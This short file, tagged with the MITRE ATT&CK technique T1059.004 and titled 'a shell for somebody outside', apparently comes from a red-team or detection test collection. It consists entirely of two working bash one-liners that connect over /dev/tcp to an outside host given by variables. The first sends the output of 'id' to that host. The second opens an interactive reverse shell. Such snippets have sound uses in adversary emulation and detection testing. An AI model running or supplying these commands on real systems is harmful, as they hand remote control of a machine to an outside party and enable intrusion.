# technique: T1059.004
# title: a shell for somebody outside
bash -c "exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo hello >&5; sh -c id >&5; exec 5>&-"
bash -c "bash -i >& /dev/tcp/$OUTSIDE/$CATCH 0>&1" < /dev/null
